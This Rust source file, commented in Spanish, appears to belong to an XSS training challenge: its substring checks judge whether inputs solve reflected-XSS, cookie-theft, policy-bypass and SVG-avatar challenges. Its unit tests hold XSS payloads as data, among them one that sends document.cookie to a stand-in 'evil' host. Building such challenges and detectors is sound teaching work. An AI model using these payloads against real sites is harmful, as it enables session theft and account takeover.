//! # Detectores de Payloads
//! src/challenge/triggers.rs
//!
//! Chequeos por substring que deciden si un input resuelve un reto. Son
//! heurísticas a propósito: el reto premia la idea, no un exploit exacto.
//! Todas distinguen mayúsculas.

/// MIME que debe declarar el avatar para contar como SVG
pub const SVG_MIME: &str = "image/svg+xml";

/// Reto 0: `<img` con un handler `onerror` en la búsqueda
pub fn is_reflected_xss(query: &str) -> bool {
    query.contains("<img") && query.contains("onerror")
}

/// Reto 1: el comentario intenta leer las cookies del administrador
pub fn steals_cookie(comment: &str) -> bool {
    comment.contains("cookie")
}

/// Reto 3 por comentario: marca el bypass o usa una directiva `ng-include`
pub fn bypasses_policy(comment: &str) -> bool {
    comment.contains("bypassSuccess") || comment.contains("ng-include")
}

/// Reto 2: avatar SVG con script embebido o un handler `onload`
///
/// El tipo se toma del `Content-Type` de la parte, tal como lo declaró el
/// cliente; la extensión del archivo no importa.
pub fn is_svg_payload(content_type: Option<&str>, content: &str) -> bool {
    let is_svg = content_type.is_some_and(|ct| ct.trim() == SVG_MIME);
    // A propósito no se descarta `onload=`: `<svg onload=alert(1)>` debe contar
    is_svg && (content.contains("<script") || content.contains("onload"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_reflected_needs_img_and_onerror() {
        assert!(is_reflected_xss("<img src=x onerror=alert(1)>"));
        assert!(!is_reflected_xss("<img src=x>"));
        assert!(!is_reflected_xss("onerror without tag"));
        assert!(!is_reflected_xss("<IMG src=x ONERROR=alert(1)>"));
    }

    #[test]
    fn test_steals_cookie() {
        assert!(steals_cookie("<script>fetch('//evil?c='+document.cookie)</script>"));
        assert!(!steals_cookie("nice page!"));
        assert!(!steals_cookie("COOKIE"));
    }

    #[test]
    fn test_bypasses_policy() {
        assert!(bypasses_policy("<script>window.bypassSuccess=true</script>"));
        assert!(bypasses_policy("<div ng-include=\"'x'\"></div>"));
        assert!(!bypasses_policy("hello"));
    }

    #[test]
    fn test_svg_with_onload() {
        assert!(is_svg_payload(Some("image/svg+xml"), "<svg onload=alert(1)>"));
        assert!(is_svg_payload(Some("image/svg+xml"), "<svg onload = \"alert(1)\">"));
    }

    #[test]
    fn test_svg_with_script() {
        assert!(is_svg_payload(
            Some("image/svg+xml"),
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
        ));
    }

    #[test]
    fn test_svg_requires_declared_type() {
        assert!(!is_svg_payload(Some("image/png"), "<svg onload=alert(1)>"));
        assert!(!is_svg_payload(None, "<svg onload=alert(1)>"));
    }

    #[test]
    fn test_plain_svg_is_not_payload() {
        assert!(!is_svg_payload(Some("image/svg+xml"), "<svg><circle r=\"4\"/></svg>"));
    }
}
